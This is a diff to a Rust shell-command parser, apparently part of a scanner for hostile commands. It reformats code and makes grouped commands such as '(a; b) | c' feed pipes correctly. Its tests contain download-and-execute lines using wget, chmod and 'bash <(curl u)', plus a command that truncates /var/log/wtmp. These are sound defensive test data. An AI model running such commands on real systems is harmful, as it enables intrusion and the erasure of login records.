@@ -45,8 +45,8 @@ const SHELLS: &[&str] = &["sh", "bash", "dash", "ash", "zsh", "ksh", "csh", "tcs
 const INTERPRETERS: &[&str] = &["perl", "php", "ruby", "node", "lua", "pwsh", "powershell", "source", ".", "eval"];
 /// Words that only run what follows them.
 const WRAPPERS: &[&str] = &[
-    "sudo", "nohup", "setsid", "exec", "command", "time", "doas", "env", "nice", "ionice", "timeout", "stdbuf", "xargs",
-    "builtin", "strace", "then", "do", "else", "elif", "if", "while", "until", "!", "start", "call",
+    "sudo", "nohup", "setsid", "exec", "command", "time", "doas", "env", "nice", "ionice", "timeout", "stdbuf",
+    "xargs", "builtin", "strace", "then", "do", "else", "elif", "if", "while", "until", "!", "start", "call",
 ];
 
 impl Command<'_> {
@@ -121,6 +121,7 @@ impl<'a> Lexer<'a> {
         let mut now = Command::default();
         let mut redirect = false;
         let mut pipe_from = None;
+        let mut after_group = false;
         while let Some(&byte) = bytes.get(self.at) {
             if out.len() >= MAX_COMMANDS {
                 return;
@@ -151,7 +152,10 @@ impl<'a> Lexer<'a> {
                     self.at += 1 + usize::from(doubled && matches!(byte, b'&' | b'|'));
                     let finished = std::mem::take(&mut now);
                     let pushed = self.push(finished, pipe_from.take(), feeds.clone(), out);
-                    pipe_from = if piped { pushed } else { None };
+                    // `(a; b) | c`: what the group's last command says goes into the pipe.
+                    let group = after_group.then(|| out.len().checked_sub(1)).flatten();
+                    pipe_from = if piped { pushed.or(group) } else { None };
+                    after_group = byte == b')';
                     redirect = false;
                 }
                 _ => {
@@ -326,7 +330,8 @@ fn plain_quoted(bytes: &[u8], start: usize, windows: bool) -> Option<usize> {
     if quote == b'"' && !windows && inside.iter().any(|b| matches!(b, b'\\' | b'$' | b'`')) {
         return None;
     }
-    let last = bytes.get(end + 1).is_none_or(|b| b.is_ascii_whitespace() || matches!(b, b';' | b'&' | b'|' | b')' | b'>'));
+    let last =
+        bytes.get(end + 1).is_none_or(|b| b.is_ascii_whitespace() || matches!(b, b';' | b'&' | b'|' | b')' | b'>'));
     last.then_some(end)
 }
 
@@ -335,9 +340,9 @@ fn unwrap(command: &mut Command<'_>) {
     let mut skip = 0;
     while let Some(word) = command.words.get(skip) {
         let name = base_name(word);
-        let assignment = word.find('=').is_some_and(|at| {
-            at > 0 && word.bytes().take(at).all(|b| b.is_ascii_alphanumeric() || b == b'_')
-        });
+        let assignment = word
+            .find('=')
+            .is_some_and(|at| at > 0 && word.bytes().take(at).all(|b| b.is_ascii_alphanumeric() || b == b'_'));
         if assignment || matches!(word.as_ref(), "{" | "}" | "\\" | "") {
             skip += 1;
         } else if name == "busybox" && command.words.len() > skip + 1 {
@@ -369,8 +374,11 @@ fn script_at(command: &Command<'_>) -> Option<usize> {
         return None;
     }
     let at = command.words.iter().skip(1).take(8).position(|word| {
-        if windows_shell { word.eq_ignore_ascii_case("/c") || word.eq_ignore_ascii_case("/k") }
-        else { is_script_option(word) }
+        if windows_shell {
+            word.eq_ignore_ascii_case("/c") || word.eq_ignore_ascii_case("/k")
+        } else {
+            is_script_option(word)
+        }
     })?;
     (command.words.len() > at + 2).then_some(at + 2)
 }
@@ -391,7 +399,10 @@ mod tests {
 
     #[test]
     fn lines_fall_into_commands() {
-        check("cd /tmp; wget http://a/x -O x && chmod +x x || true & ./x", &["cd /tmp", "wget http://a/x -O x", "chmod +x x", "true", "./x"]);
+        check(
+            "cd /tmp; wget http://a/x -O x && chmod +x x || true & ./x",
+            &["cd /tmp", "wget http://a/x -O x", "chmod +x x", "true", "./x"],
+        );
         check("sh -c 'a b; c' d", &["a b", "c"]);
         check("sh -c a b; c", &["a b", "c"]);
         check("sudo -u www A=1 nohup timeout 10 /bin/busybox wget x", &["wget x"]);
@@ -405,6 +416,8 @@ mod tests {
         assert_eq!((got[1].from, got[2].from), (Some(0), Some(1)));
         assert_eq!(got[2].text(), "bash -s");
         assert_eq!(got[2].writes, ["/tmp/log"]);
+        let got = commands("(a; b) | c", false);
+        assert_eq!((got.len(), got[2].from), (3, Some(1)));
         let got = commands("bash <(curl u)", false);
         assert_eq!((got[0].text().as_str(), got[0].feeds.as_deref()), ("curl u", Some("bash")));
         assert_eq!(commands("> /var/log/wtmp", false)[0].writes, ["/var/log/wtmp"]);
@@ -419,7 +432,14 @@ mod tests {
 
     #[test]
     fn hostile_lines_are_bounded() {
-        for line in ["$(".repeat(50_000), "`".repeat(9999), "sh -c '".repeat(9999), "a;".repeat(99_999), "'\"\\".repeat(5000), "é$(é`é\\é'é".repeat(3000)] {
+        for line in [
+            "$(".repeat(50_000),
+            "`".repeat(9999),
+            "sh -c '".repeat(9999),
+            "a;".repeat(99_999),
+            "'\"\\".repeat(5000),
+            "é$(é`é\\é'é".repeat(3000),
+        ] {
             assert!(commands(&line, false).len() <= MAX_COMMANDS);
             assert!(commands(&line, true).len() <= MAX_COMMANDS);
         }
